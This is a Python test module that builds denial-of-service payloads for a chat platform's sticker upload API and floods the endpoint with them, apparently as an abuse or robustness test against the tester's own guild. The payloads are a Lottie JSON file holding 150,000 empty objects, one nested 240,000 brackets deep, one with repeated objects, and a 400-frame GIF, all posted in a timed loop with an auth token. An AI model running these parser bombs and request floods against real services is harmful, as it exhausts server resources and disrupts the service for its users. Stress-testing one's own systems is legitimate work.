"""Create stickers of Lottie animations with very many objects, of deep ones, and of animations with many frames."""

from io import BytesIO

import aiohttp
from PIL import Image

from tests.abuse.flooding import flood, send
from tests.abuse.target import Target

_HEAD = b'{"v":"5.5.2","w":320,"h":320,"fr":60,"ip":0,"op":60,"layers":['


def _animation() -> bytes:
    out = BytesIO()
    images = [Image.new("P", (320, 320), index % 256) for index in range(400)]
    images[0].save(out, "gif", save_all=True, append_images=images[1:], duration=20)
    return out.getvalue()


async def attack(target: Target, seconds: float) -> None:
    """Send each file."""
    files = [
        _HEAD + b"{}," * 150_000 + b"{}]}",
        _HEAD + b"[" * 240_000 + b"]" * 240_000 + b"]}",
        _HEAD + b'{"x":[],"y":{}},' * 30_000 + b"{}]}",
        _animation(),
    ]
    url = f"{target.api}/guilds/{target.own_guild_id}/stickers"

    async def act(session: aiohttp.ClientSession, number: int) -> None:
        form = aiohttp.FormData({"name": f"bomb{number}", "description": "", "tags": "bomb"})
        form.add_field("file", files[number % len(files)], filename="bomb.json", content_type="application/json")
        await send(session, "POST", url, token=target.token, data=form)

    await flood(target, seconds, act)
